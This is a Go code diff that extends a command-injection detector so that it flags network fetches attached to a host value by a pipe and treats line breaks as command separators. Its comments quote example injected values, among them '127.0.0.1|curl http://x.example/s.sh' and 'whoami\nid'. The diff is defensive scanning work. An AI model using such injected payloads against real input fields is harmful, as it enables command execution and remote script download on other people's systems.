@@ -740,6 +740,10 @@ func (s *cmdScan) cmdAt(i, level int, pipe bool, depth int) (string, bool) {
 		return v[i:end], true
 	case arg == argNet && class&cmdNet != 0 && level >= posLoose:
 		return v[i:end], true
+	case arg == argNet && class&cmdNet != 0 && level == posAttached && (class&cmdStrong != 0 || hostBefore(v, i)):
+		// 127.0.0.1|curl http://x.example/s.sh: the host a ping form asks for, then a
+		// fetch; "a|wget http://..." needs no host before it, wget being no word
+		return v[i:end], true
 	case arg == argNum && class&(cmdNum|cmdNet) != 0 && level >= posLoose:
 		return v[i:end], true
 	}
@@ -749,6 +753,27 @@ func (s *cmdScan) cmdAt(i, level int, pipe bool, depth int) (string, bool) {
 		}
 	}
 	return "", false
+}
+
+// hostBefore reports whether what precedes the separator before v[i] is the whole
+// value's opening host name or IPv4 address (127.0.0.1|..., example.org&...): the
+// input of a network tool form that a command was attached to.
+func hostBefore(v string, i int) bool {
+	if i < 2 {
+		return false
+	}
+	h := strings.TrimSpace(v[:i-1])
+	dots := 0
+	for k := 0; k < len(h); k++ {
+		switch c := h[k]; {
+		case c == '.':
+			dots++
+		case isAlnum(c) || c == '-':
+		default:
+			return false
+		}
+	}
+	return dots > 0 && len(h) >= 3
 }
 
 // atTime reports a time of day at v[i] as the at command takes it: 2:00, 14:30, 5pm.
@@ -1412,6 +1437,9 @@ func (s *cmdScan) shellArg(end int, class uint16) int {
 	v := s.v
 	i := end
 	for i < len(v) {
+		if v[i] == '\n' || v[i] == '\r' {
+			return argSep // a line break ends the command, as ';' does: "whoami\nid"
+		}
 		if isSpace(v[i]) || s.plus && v[i] == '+' {
 			i++
 			continue
